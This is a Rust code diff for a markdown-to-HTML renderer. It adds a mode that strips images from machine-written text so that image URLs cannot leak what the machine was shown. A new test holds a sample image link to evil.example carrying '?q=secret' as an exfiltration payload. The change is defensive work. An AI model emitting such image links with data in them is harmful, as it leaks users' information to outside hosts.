@@ -76,14 +76,24 @@ fn depth(html: &str) -> usize {
 /// Renders markdown (CommonMark with GitHub's tables, task lists, strikethrough and autolinks) as HTML that is safe
 /// to show: raw HTML is left out, and what remains is cut down to a list of allowed elements and attributes.
 pub async fn render(markdown: &str) -> Result<String, Problem> {
-    if markdown.len() <= LONG {
-        return Ok(render_now(markdown));
-    }
-    let markdown = markdown.to_owned();
-    tokio::task::spawn_blocking(move || render_now(&markdown)).await.map_err(Problem::internal)
+    render_with(markdown, true).await
 }
 
-fn render_now(markdown: &str) -> String {
+/// Renders what a machine has written: the same without pictures, whose addresses could carry away what the machine was
+/// shown as soon as somebody looks.
+pub async fn render_machine(markdown: &str) -> Result<String, Problem> {
+    render_with(markdown, false).await
+}
+
+async fn render_with(markdown: &str, pictures: bool) -> Result<String, Problem> {
+    if markdown.len() <= LONG {
+        return Ok(render_now(markdown, pictures));
+    }
+    let markdown = markdown.to_owned();
+    tokio::task::spawn_blocking(move || render_now(&markdown, pictures)).await.map_err(Problem::internal)
+}
+
+fn render_now(markdown: &str, pictures: bool) -> String {
     let mut options = comrak::Options::default();
     options.extension.strikethrough = true;
     options.extension.table = true;
@@ -95,7 +105,11 @@ fn render_now(markdown: &str) -> String {
         // No person writes so, and the time to clean it grows with the square of the depth.
         return format!("<p>{}</p>\n", ammonia::clean_text(markdown));
     }
-    ammonia::Builder::default()
+    let mut cleaner = ammonia::Builder::default();
+    if !pictures {
+        cleaner.rm_tags(["img"]);
+    }
+    cleaner
         .add_tags(["input"])
         .add_tag_attributes("input", ["type", "checked", "disabled"])
         .add_tag_attribute_values("input", "type", ["checkbox"])
@@ -116,6 +130,7 @@ mod tests {
 
     #[test]
     fn markdown_is_rendered_and_nothing_active_survives() {
+        let render_now = |markdown: &str| render_now(markdown, true);
         assert_eq!(render_now("**hi** `x`"), "<p><strong>hi</strong> <code>x</code></p>\n");
         assert!(render_now("```rust\nfn x() {}\n```").contains("class=\"language-rust\""));
         for attack in [
@@ -134,7 +149,19 @@ mod tests {
     }
 
     #[test]
+    fn machines_show_no_pictures() {
+        let markdown = "A ![b](https://evil.example/?q=secret) [c](https://fine.example)";
+        assert!(render_now(markdown, true).contains("<img"));
+        let html = render_now(markdown, false);
+        assert!(
+            !html.contains("<img") && !html.contains("secret") && html.contains("fine.example"),
+            "{html}"
+        );
+    }
+
+    #[test]
     fn deep_nesting_is_shown_as_it_was_written() {
+        let render_now = |markdown: &str| render_now(markdown, true);
         let nested = ">".repeat(20_000);
         assert_eq!(render_now(&nested), format!("<p>{}</p>\n", "&gt;".repeat(20_000)));
         let sane = format!("{} deep", "> ".repeat(12));
